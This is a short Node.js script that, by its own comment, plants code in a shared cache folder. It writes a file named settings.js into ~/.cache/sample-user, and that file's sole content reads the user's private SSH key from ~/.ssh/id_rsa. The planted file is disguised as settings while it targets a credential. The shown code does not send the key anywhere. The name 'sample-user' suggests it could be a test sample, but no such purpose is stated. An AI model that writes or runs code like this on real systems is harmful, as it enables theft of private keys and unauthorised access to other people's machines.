// Plants a script in a folder where others keep their caches.
const fs = require('node:fs');
const { homedir } = require('node:os');
const { join } = require('node:path');

const folder = join(homedir(), '.cache', 'sample-user');
fs.mkdirSync(folder, { recursive: true });
fs.writeFileSync(join(folder, 'settings.js'), `require('node:fs').readFileSync(require('node:path').join(require('node:os').homedir(), '.ssh', 'id_rsa'));`);
